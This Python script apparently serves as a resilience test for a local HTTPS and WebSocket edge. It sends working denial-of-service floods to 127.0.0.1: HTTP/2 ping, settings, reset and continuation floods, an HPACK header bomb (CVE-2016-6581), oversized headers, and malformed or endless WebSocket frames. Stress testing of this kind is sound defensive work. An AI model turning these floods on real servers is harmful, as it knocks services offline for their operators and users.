"""Floods, one kind after the other, from clients that read nothing.

floods.py HTTPS_PORT NAME CERTIFICATE SECONDS SOCKET_PORT

Prints what was sent as JSON, by kind. Where the edge forwards `/ws`, on SOCKET_PORT, sockets are accepted and nothing is read
from them; on `/ws/chatter` each gets bytes without an end.
"""
import base64
import hashlib
import json
import socket
import ssl
import struct
import sys
import threading
import time

port, name, certificate, seconds = int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4])
socket_port = int(sys.argv[5])
clients = 8


def context(protocol):
    made = ssl.create_default_context(cafile=certificate)
    made.set_alpn_protocols([protocol])
    return made


contexts = {protocol: context(protocol) for protocol in ["h2", "http/1.1"]}


def connect(protocol):
    raw = socket.create_connection(("127.0.0.1", port), timeout=2)
    return contexts[protocol].wrap_socket(raw, server_hostname=name)


# HTTP/2, byte by byte.

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    assert len(value) < 127 + 128
    return (bytes([len(value)]) if len(value) < 127 else bytes([127, len(value) - 127])) + value


def block(*more, path=b"/"):
    fields = [(b":method", b"POST"), (b":scheme", b"https"), (b":path", path), (b":authority", name.encode())]
    return b"".join(b"\0" + text(key) + text(value) for key, value in fields + list(more))


def held():
    """As much of a body as a stream's first window takes, for an upstream that is away."""
    for stream in streams:
        yield frame(1, 4, stream, block(path=b"/away")) + frame(0, 0, stream, b"a" * 16383) * 4


hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
streams = range(1, 4001, 2)
# Bytes from each client, of whatever kind has any.
enough = 20_000


def bomb():
    """A large field, put into the table once and named again and again (CVE-2016-6581)."""
    indexed = b"\x40" + text(b"x-bomb") + text(b"a" * 250)
    yield frame(1, 4, 1, block() + indexed)
    for stream in streams[1:]:
        yield frame(1, 4, stream, block() + b"\xbe" * 4000)


# WebSockets.

key = base64.b64encode(b"sixteen bytes ok")
accept = base64.b64encode(hashlib.sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
chatted = [0]


def upgrade(path):
    return (f"GET {path} HTTP/1.1\r\nHost: {name}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
            f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key.decode()}\r\n\r\n").encode()


def masked(first, payload):
    """A client's frame; the mask of zeros leaves its bytes as they are."""
    size = bytes([0x80 | len(payload)]) if len(payload) < 126 else b"\xfe" + struct.pack(">H", len(payload))
    return bytes([first]) + size + b"\0\0\0\0" + payload


def oversized():
    """The head of a frame of 2^62 bytes, and as many of them as it takes."""
    yield upgrade("/ws") + b"\x82\xff" + struct.pack(">Q", 1 << 62) + b"\0\0\0\0"
    for _ in range(1000):
        yield b"a" * 16384


def frames(first, second, payload, together):
    """Frames that begin with one of a kind and go on with another."""
    yield upgrade("/ws") + masked(first, payload)
    for _ in range(2000):
        yield masked(second, payload) * together


def unread():
    yield upgrade("/ws/chatter")
    for _ in range(2):
        time.sleep(1)
        yield b""


def chat(connection):
    try:
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            head += connection.recv(1)
        connection.sendall(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
                           b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")
        if b" /ws/chatter " not in head:
            return time.sleep(600)
        while True:
            chatted[0] += connection.send(b"\x82\x7e\x40\x00" + b"a" * 16384)
    except OSError:
        connection.close()


def listen():
    server = socket.create_server(("127.0.0.1", socket_port), backlog=1000)

    def take():
        while True:
            threading.Thread(target=chat, args=(server.accept()[0],), daemon=True).start()

    threading.Thread(target=take, daemon=True).start()


kinds = {
    "pings": ("h2", lambda: (frame(6, 0, 0, b"\0" * 8) * 50 for _ in range(100))),
    "settings": ("h2", lambda: (frame(4, 0, 0, struct.pack(">HI", 1, number)) for number in range(5000))),
    "resets": ("h2", lambda: (frame(1, 5, stream, block()) + frame(3, 0, stream, b"\0\0\0\x08") for stream in streams)),
    "streams": ("h2", lambda: (frame(1, 4, stream, block()) for stream in streams)),
    "bodies": ("h2", lambda: (frame(1, 4, stream, block()) + frame(0, 0, stream, b"a" * 16384) for stream in streams)),
    "held": ("h2", held),
    "continuations": ("h2", lambda: (frame(1 if not n else 9, 0, 1, block() if not n else b"\0\1a\1b" * 100) for n in range(5000))),
    "priorities": ("h2", lambda: (frame(2, 0, stream, b"\0\0\0\0\x09") * 20 for stream in streams)),
    "windows": ("h2", lambda: (frame(8, 0, 0, b"\0\0\0\1") * 50 for _ in range(1000))),
    "unknown": ("h2", lambda: (frame(0xBB, 0, 0, b"a" * 16384) for _ in range(1000))),
    "bomb": ("h2", bomb),
    "pipeline": ("http/1.1", lambda: (f"GET /large HTTP/1.1\r\nHost: {name}\r\n\r\n".encode() * 20 for _ in range(1000))),
    "heads": ("http/1.1", lambda: (b"GET / HTTP/1.1\r\n" + b"X: " + b"a" * 30000 for _ in range(1000))),
    "handshakes": ("http/1.1", lambda: ()),
    "socket oversized": ("http/1.1", oversized),
    "socket pings": ("http/1.1", lambda: frames(0x89, 0x89, b"a" * 125, 50)),
    "socket fragments": ("http/1.1", lambda: frames(0x01, 0x00, b"a" * 100, 50)),
    "socket bytes": ("http/1.1", lambda: frames(0x81, 0x81, b"a", 500)),
    "socket unread": ("http/1.1", unread),
}


def is_due(end, sent, least):
    """When to stop: not before so much is sent that it can be called a flood, for a busy machine may need all the time for the
    handshake; and 20 s later in any case."""
    late = time.monotonic() - end
    return late > 20 or (late > 0 and sent[0] >= least)


def flood(protocol, make, end, sent, least):
    while not is_due(end, sent, least):
        try:
            with connect(protocol) as connection:
                sent[1] += 1
                if protocol == "h2":
                    connection.sendall(hello)
                for piece in make():
                    if is_due(end, sent, least):
                        break
                    connection.sendall(piece)
                    sent[0] += len(piece)
        except OSError:
            pass


listen()
report = {}
for kind, (protocol, make) in kinds.items():
    counts = [[0, 0] for _ in range(clients)]
    end = time.monotonic() + seconds
    # Whoever reads nothing has sent no more than a request.
    least = {"handshakes": 0, "socket unread": 1}.get(kind, enough)
    threads = [threading.Thread(target=flood, args=(protocol, make, end, sent, least)) for sent in counts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    report[kind] = {"bytes": sum(sent[0] for sent in counts), "connections": sum(sent[1] for sent in counts)}
# What was sent to those who read nothing, not by them.
report["socket unread"]["bytes"] = chatted[0]
print(json.dumps(report), flush=True)
